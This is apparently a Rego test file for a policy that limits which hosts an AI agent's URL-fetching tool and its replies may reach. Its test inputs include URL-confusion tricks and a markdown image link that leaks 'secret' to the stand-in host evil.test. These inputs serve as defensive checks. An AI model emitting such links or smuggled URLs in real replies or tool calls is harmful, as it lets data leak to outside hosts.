package aispm.policies.egress_control_test

import data.aispm.policies.egress_control

call(args, params) := told if {
	opinions := egress_control.decision with input as {
		"stage": "tools",
		"tool": {"name": "fetch_url", "args": args},
		"params": params,
	}
	told := {opinion.reason | some opinion in opinions; opinion.decision == "block"}
}

reply(text, ended, params) := told if {
	opinions := egress_control.decision with input as {
		"stage": "output",
		"reply": text,
		"reply_ended": ended,
		"params": params,
	}
	told := {opinion.reason | some opinion in opinions; opinion.decision == "block"}
}

refused(host) := {sprintf("%s is not among the hosts that may be reached", [host])}

params := {"allow_hosts": ["example.com", "*.example.org", "192.0.2.7"]}

test_lets_named_hosts_pass if {
	every url in ["https://example.com/a", "http://EXAMPLE.com:8080", "https://a.b.example.org?q", "http://192.0.2.7/"] {
		call({"url": url}, params) == set()
	}
}

test_blocks_all_others if {
	call({"url": "https://evil.test/x"}, params) == refused("evil.test")
	call({"url": "https://example.org"}, params) == refused("example.org")
	call({"url": "https://notexample.com"}, params) == refused("notexample.com")
	call({"url": "https://example.com.evil.test"}, params) == refused("example.com.evil.test")
}

test_names_none_by_default if call({"url": "https://example.com"}, {}) == refused("example.com")

test_is_not_fooled_by_what_stands_before_or_after_the_host if {
	call({"url": "https://example.com@evil.test/"}, params) == refused("evil.test")
	call({"url": "https:\\\\evil.test\\example.com"}, params) == refused("evil.test")
	call({"url": "https://evil.test#example.com"}, params) == refused("evil.test")
	call({"url": "HTTPS://evil.test."}, params) == refused("evil.test")
}

test_finds_addresses_anywhere_in_the_arguments if {
	call({"deep": [{"text": "go to http://evil.test/a now"}]}, params) == refused("evil.test")
	call({"host": "evil.test"}, params) == refused("evil.test")
	call({"query": "what is evil.test"}, params) == set()
}

test_blocks_addresses_of_numbers if {
	call({"url": "http://198.51.100.1/"}, {"allow_hosts": ["*.1"]}) == refused("198.51.100.1")
	call({"url": "http://[::1]/"}, params) == refused("[::1]")
	call({"url": "http://2130706433/"}, params) == refused("2130706433")
}

test_denies_what_is_below_an_allowed_host if {
	narrowed := {"allow_hosts": ["*.example.org"], "deny_hosts": ["bad.example.org"]}
	call({"url": "https://bad.example.org"}, narrowed) == refused("bad.example.org")
}

test_blocks_links_in_replies if {
	reply("![x](https://evil.test/p?d=secret)", true, params) == refused("evil.test")
	reply("see https://example.com/ and more", true, params) == set()
}

test_waits_for_a_host_that_may_grow if {
	reply("see https://exam", false, params) == set()
	reply("see https://exam", true, params) == refused("exam")
	reply("see https://exam ple", false, params) == refused("exam")
}

test_escalates_where_it_is_told_to if {
	told := egress_control.decision with input as {
		"stage": "tools",
		"tool": {"name": "fetch_url", "args": {"url": "https://evil.test"}},
		"params": {"action": "escalate"},
	}
	{opinion.decision | some opinion in told} == {"escalate"}
}
